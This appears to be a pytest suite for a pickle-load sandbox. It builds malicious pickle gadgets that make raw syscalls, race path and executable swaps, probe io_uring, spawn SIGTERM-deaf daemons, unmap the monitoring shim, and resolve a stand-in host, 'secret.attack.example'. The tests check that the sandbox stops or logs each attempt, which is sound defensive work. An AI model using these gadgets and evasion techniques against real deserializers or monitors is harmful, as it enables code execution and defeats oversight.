"""Attacks on the floor that are no single load of a single file: what the kernel refuses, races, what a
job leaves behind, and crashes."""
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from attacks import native
from conftest import PROGRAM

pytestmark = pytest.mark.skipif(not native.can_be_built(), reason="x86-64 and a C compiler")
HERE = Path(__file__).resolve().parent
ENOSYS = -38

# A job that loads, one after the other, what CALLS says, and prints how each load ended.
JOB = """
import collections, os, pickle, sys, time
import rawcall
class Node:
    def __init__(self, function, *args):
        self.function, self.args = function, args
    def __reduce__(self):
        return self.function, self.args
def load(*nodes):
    try:
        return pickle.loads(pickle.dumps(list(nodes)))
    except BaseException as error:
        return type(error).__name__
root = sys.argv[1]
"""


def watch(code, root, mode="deny", rules="", environment=(), around=()):
    """Runs JOB and `code` with the directory as its working directory; alerts go beside it."""
    policy, script = root / "policy.yaml", root / "job.py"
    policy.write_text(f"version: 1\n{rules}")
    script.write_text(JOB + code)
    inside = root / "root"
    inside.mkdir()
    command = [*around, PROGRAM, "run", "--quiet", f"--mode={mode}", f"--policy={policy}",
               f"--alerts={root / 'alerts'}", "--", sys.executable, str(script), str(inside)]
    kept = {key: value for key, value in os.environ.items() if not key.startswith("PYTHON")}
    done = subprocess.run(command, cwd=inside, capture_output=True, text=True, timeout=300,
                          env=kept | dict(environment) | {"PYTHONPATH": str(native.directory())})
    path = root / "alerts"
    lines = path.read_text().splitlines() if path.exists() else []
    return done, [record for record in map(json.loads, lines) if record["update"] == 0]


def let(effect, matches, verdict="allow"):
    return ("rules:\n"
            f"  - {{name: let, effect: {effect}, {matches}, verdict: {verdict}, reason: the test's, owner: test}}\n")


AGAIN = """
print(load(*[Node(rawcall.call, 83, f"{root}/marker", 0o700) for i in range(500)]))
"""


def test_what_was_refused_is_refused_again_without_a_word(tmp_path):
    done, alerts = watch(AGAIN, tmp_path)
    assert done.stdout == "UnsafeLoadError\n"
    assert [a["outcome"] for a in alerts] == ["prevented"]
    assert not (tmp_path / "root" / "marker").exists()


RINGS = """
def results(*numbers):
    return load(*[Node(rawcall.call, number, 8, bytes(120)) for number in numbers])
parameters = rawcall.pack(0, 2, *[0] * 13)  # IORING_SETUP_SQPOLL
print(results(425, 426, 427, 435, 437))
print(load(Node(rawcall.call, 425, 8, parameters)))
print(results(0x40000000 + 425, 0x40000000 + 435, 0x40000000 + 437))
print(load(*[Node(rawcall.call32, number, 8, 0) for number in (425, 435, 437)]))
"""


def test_calls_whose_wish_lies_in_memory_are_not_there(tmp_path):
    """A ring, plain or polled by the kernel, could open, connect, rename and unlink without a call."""
    done, alerts = watch(RINGS, tmp_path)
    assert [json.loads(line) for line in done.stdout.splitlines()] == [
        [ENOSYS] * 5, [ENOSYS], [ENOSYS] * 3, [ENOSYS] * 3]
    assert alerts == []


FILES = """
inside, outside = f"{root}/in/file", f"{root}/outside"
os.mkdir(f"{root}/in")
rawcall.flip(inside, outside)
counts = collections.Counter()
for i in range(10):
    result = load(Node(rawcall.create, 1000, rawcall.flipped()))
    counts[result if type(result) is str else "loaded"] += 1
print(counts["UnsafeLoadError"], os.path.exists(inside), os.path.exists(outside), flush=True)
os._exit(0)
"""


def test_a_path_that_another_thread_flips_leads_nowhere_else(tmp_path):
    done, alerts = watch(FILES, tmp_path, rules=let("write", f'path: "{tmp_path}/root/in/**"'))
    stopped, there, escaped = done.stdout.split()
    assert (there, escaped) == ("True", "False")
    assert int(stopped) > 0, "the path was never seen flipped"
    assert {a["outcome"] for a in alerts} == {"prevented"}
    assert f"{tmp_path}/root/outside" in {a["effect"]["detail"]["path"] for a in alerts}
    assert "syscall" in {a["sensor"] for a in alerts}, "no flip between libc and the kernel"


PROGRAMS = """
import shutil
shutil.copy(sys.argv[1] + "/../child", f"{root}/other")
rawcall.flip("/usr/bin/true", f"{root}/other")
args = rawcall.pack("true", f"{root}/marker", 0)
counts = collections.Counter()
for i in range(500):
    result = load(Node(rawcall.run, 1, rawcall.flipped(), args))
    counts[result if type(result) is str else "loaded"] += 1
print(counts["loaded"], counts["UnsafeLoadError"], os.path.exists(f"{root}/marker"), flush=True)
os._exit(0)
"""


def test_a_program_that_another_thread_exchanges_does_nothing(tmp_path):
    shutil.copy(native.directory() / "child", tmp_path / "child")
    program = os.path.realpath("/usr/bin/true")
    done, alerts = watch(PROGRAMS, tmp_path, rules=let("exec", f'executable: "{program}"'))
    loaded, stopped, happened = done.stdout.split()
    assert int(loaded) > 0 and int(stopped) > 0
    assert happened == "False"
    assert {a["outcome"] for a in alerts} == {"prevented"}
    assert "syscall" in {a["sensor"] for a in alerts}, "no flip between libc and the kernel"


ORPHAN = """
load(Node(os.posix_spawn, os.path.dirname(root) + "/child", ["child", "daemon", f"{root}/marker"], {}), Node(time.sleep, 0.1))
print("loaded")
time.sleep(1)
"""


@pytest.mark.parametrize("mode", ["deny", "observe"])
def test_who_is_let_start_answers_for_the_load_until_it_ends(mode, tmp_path):
    """A static program that may be started, with an alert, forks twice, and acts when the load is over."""
    child = tmp_path / "child"
    shutil.copy(native.directory() / "child", child)
    done, alerts = watch(ORPHAN, tmp_path, mode=mode, rules=let("exec", f'executable: "{child}"', "alert"))
    assert done.stdout == "loaded\n"
    outcome = "prevented" if mode == "deny" else "observed"
    assert [(a["effect"]["class"], a["outcome"], a["sensor"]) for a in alerts] == [
        ("exec", "observed", "python"), ("write", outcome, "syscall")]
    assert (tmp_path / "root" / "marker").exists() == (mode == "observe")


DEAF = """
deaf = rawcall.pack(1, 0, 0, 0)  # SIG_IGN
load(Node(os.fork), Node(os.fork), Node(rawcall.call, 112), Node(rawcall.call, 13, 15, deaf, 0, 8),
     Node(time.sleep, 0.5), Node(rawcall.call, 83, f"{root}/marker", 0o700), Node(time.sleep, 60))
"""


def living_in(directory):
    """The processes whose working directory it is."""
    found = []
    for link in Path("/proc").glob("[0-9]*/cwd"):
        try:
            if os.readlink(link) == str(directory):
                found.append(int(link.parent.name))
        except OSError:  # it has ended
            pass
    return found


def test_kill_leaves_nothing_behind(tmp_path):
    """Four processes, in sessions of their own and deaf to SIGTERM; one of them has an effect."""
    done, alerts = watch(DEAF, tmp_path, mode="kill")
    assert done.returncode == 137
    assert not (tmp_path / "root" / "marker").exists()
    assert alerts[0]["outcome"] == "prevented" and alerts[0]["verdict"] == "kill"
    assert living_in(tmp_path / "root") == []


@pytest.mark.parametrize("mode, outcome", [("deny", "prevented"), ("observe", "observed")])
def test_an_effect_right_before_the_end_is_recorded(mode, outcome, tmp_path):
    code = 'load(Node(rawcall.call, 83, f"{root}/marker", 0o700), Node(rawcall.call, 231, 7))'
    done, alerts = watch(code, tmp_path, mode=mode)
    assert done.returncode == 7
    assert [(a["outcome"], a["sensor"], a["evasion"]) for a in alerts] == [(outcome, "syscall", True)]
    assert (tmp_path / "root" / "marker").exists() == (mode == "observe")


UNMAPPED = """
at, length = rawcall.text("libmodelwatch.so")
load(Node(rawcall.call, {call}), Node(rawcall.call, 83, f"{{root}}/marker", 0o700))
"""


@pytest.mark.parametrize("call", ["11, at, length", "10, at, length, 1"], ids=["munmap", "mprotect"])
def test_without_the_shim_there_is_the_floor(call, tmp_path):
    """The process cannot go on without code that it calls; what it did first is stopped."""
    done, alerts = watch(UNMAPPED.format(call=call), tmp_path)
    assert done.returncode == 128 + 11
    assert [(a["outcome"], a["sensor"], a["evasion"]) for a in alerts] == [("prevented", "syscall", True)]
    assert not (tmp_path / "root" / "marker").exists()


LOOK_UP = """
print(load(Node(rawcall.libc, "getaddrinfo", "secret.attack.example", "80", None, bytes(8))))
"""


def in_own_network():
    if os.getuid() or not shutil.which("unshare"):
        pytest.skip("needs root and unshare")
    around = ["unshare", "--net", "--mount", sys.executable, str(HERE / "resolver.py")]
    if subprocess.run([*around, "true"], capture_output=True).returncode:
        pytest.skip("no network namespace here")
    return around


@pytest.mark.parametrize("options, kind", [("", "udp"), ("use-vc", "tcp")], ids=["udp", "tcp"])
@pytest.mark.parametrize("mode", ["deny", "observe"])
def test_names_are_not_looked_up_past_the_shim(mode, options, kind, tmp_path):
    """libc's own getaddrinfo(): what it sends is sent by functions inside libc."""
    done, alerts = watch(LOOK_UP, tmp_path, mode=mode, environment={"RES_OPTIONS": options},
                         around=in_own_network())
    asked = f"asked by {kind} for secret.attack.example" in done.stdout
    assert asked == (mode == "observe"), done.stdout + done.stderr
    assert alerts, done.stdout
    first = alerts[0]
    assert (first["sensor"], first["evasion"]) == ("syscall", True)
    assert first["effect"]["class"] in ("connect", "send")
    assert (first["effect"]["detail"]["address"], first["effect"]["detail"]["port"]) == ("127.0.0.1", 53)
    if mode == "deny":
        assert "UnsafeLoadError" in done.stdout
